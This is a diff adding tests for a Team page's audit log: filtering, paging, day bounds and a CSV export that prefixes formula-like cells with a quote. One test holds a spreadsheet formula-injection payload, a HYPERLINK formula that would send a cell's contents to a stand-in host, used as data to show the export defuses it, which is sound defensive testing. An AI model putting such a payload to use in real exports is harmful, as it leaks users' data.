@@ -1,14 +1,20 @@
 """The Team page, headless: single-user mode creates the first lead (and never shows the
 password); a lead adds users and changes them through al_core.team.accounts, each change
 in the audit log; al_core's refusals are shown as messages; a non-lead sees only the
-refusal."""
+refusal; the audit log is filtered and paged, and its CSV cannot run as a formula."""
+import csv
+import io
+from datetime import date, datetime, timedelta, timezone
+
 import pytest
 
 import ui.chrome
 import ui.state
 from al_core.store import Store
 from al_core.team import accounts
+from al_core.types import AuditEntry
 from tests.apptest import open_page, read
+from ui.team_audit import PAGE_ROWS, audit_csv, csv_cell, day_bounds
 
 LEAD_PW = "correct horse battery"
 ANN_PW = "annotator's secret 1"
@@ -150,10 +156,12 @@ def test_a_lead_adds_an_annotator_changes_a_role_and_sees_the_audit_log(project,
     assert messages(at, "success") == ["Ann is now a reviewer (was an annotator); their "
                                        "open sessions have ended."]
     assert project.user("Ann").role == "reviewer"
-    log = project.audit_entries()
-    assert [e.action for e in log] == ["user.role", "user.add", "user.add"]
-    assert [e.actor for e in log][:2] == ["Lea", "Lea"]
-    assert log[0].summary == "Ann: annotator -> reviewer"
+    log = at.dataframe[1].value
+    assert log["action"].tolist() == ["user.role", "user.add", "user.add"]  # newest first
+    assert log["actor"].tolist()[:2] == ["Lea", "Lea"]
+    assert log["summary"][0] == "Ann: annotator -> reviewer"
+    csv_button = at.get("download_button")[0]
+    assert "3 rows" in csv_button.proto.label
 
 
 def test_al_core_refusals_show_as_messages(project, monkeypatch):
@@ -203,3 +211,65 @@ def test_nobody_signed_in_in_team_mode_sees_nothing_of_the_page(project, monkeyp
     acting(monkeypatch, project, None)
     at = team_page()
     assert asks_to_sign_in(at) and nothing_of_the_page(at)
+
+
+def test_the_audit_log_is_filtered_and_paged(project, monkeypatch):
+    with_lead(project)
+    with project.write():
+        for k in range(PAGE_ROWS + 30):
+            project.audit("label.save", object_type="item", object_id=k,
+                          summary=f"saved {k}", actor="Ann" if k % 2 else "Lea")
+    acting(monkeypatch, project, "Lea")
+    at = team_page()
+    assert any(c.value == f"Rows 1–{PAGE_ROWS} of {PAGE_ROWS + 31}, newest first."
+               for c in at.caption)
+    assert len(at.dataframe[1].value) == PAGE_ROWS
+    at.selectbox(key=next(s.key for s in at.selectbox if s.label.startswith("Page"))) \
+        .set_value(2).run()
+    assert len(at.dataframe[1].value) == 31
+    assert at.dataframe[1].value["summary"].iloc[-1] == "added Lea as lead (team mode on)"
+    next(s for s in at.selectbox if s.label == "Actor").set_value("Ann").run()
+    assert any(c.value == f"Rows 1–65 of 65, newest first." for c in at.caption)
+    assert set(at.dataframe[1].value["actor"]) == {"Ann"}
+    next(s for s in at.selectbox if s.label == "Action").set_value("user.add").run()
+    assert any(c.value == "No audit rows match." for c in at.caption)
+    assert at.get("download_button")[0].proto.disabled
+    next(s for s in at.selectbox if s.label == "Actor").set_value("anyone").run()
+    days = at.date_input[0]
+    today = date.today()
+    days.set_value((today - timedelta(days=3), today - timedelta(days=1))).run()
+    assert any(c.value == "No audit rows match." for c in at.caption)
+    days.set_value((today - timedelta(days=1), today)).run()
+    assert any(c.value == "Rows 1–1 of 1, newest first." for c in at.caption)  # user.add
+
+
+def test_day_bounds_are_local_days_in_utc():
+    start = datetime(2026, 3, 1).astimezone()  # local midnight
+    assert day_bounds(()) == (None, None)
+    assert day_bounds((date(2026, 3, 1),)) == (
+        start.astimezone(timezone.utc).isoformat(timespec="seconds"), None)
+    since, until = day_bounds((date(2026, 3, 1), date(2026, 3, 2)))
+    assert datetime.fromisoformat(since) == start
+    assert datetime.fromisoformat(until) == datetime(2026, 3, 3).astimezone()
+    assert since.endswith("+00:00") and until.endswith("+00:00")  # as the log stores times
+
+
+def test_the_csv_prefixes_formula_cells_with_a_quote():
+    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b",
+                                  "", None, 7)] == \
+        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "", "7"]
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    rows = [AuditEntry(2, "2026-12-07T10:00:00+00:00", "@lea", "user.add", "user", "-3",
+                       evil, None, '{"name": "+x"}'),
+            AuditEntry(1, "2026-12-07T09:00:00+00:00", "Lea", "user.add", "user", "1",
+                       "added Lea, \"the lead\"\nsecond line", None, None)]
+    data = audit_csv(rows)
+    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets read UTF-8
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert table[0] == ["id", "at", "actor", "action", "object_type", "object_id",
+                        "summary", "before", "after"]
+    assert table[1] == ["2", "2026-12-07T10:00:00+00:00", "'@lea", "user.add", "user",
+                        "'-3", "'" + evil, "", '{"name": "+x"}']
+    assert table[2][6] == "added Lea, \"the lead\"\nsecond line"  # quoted, whole
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+               for row in table for cell in row)
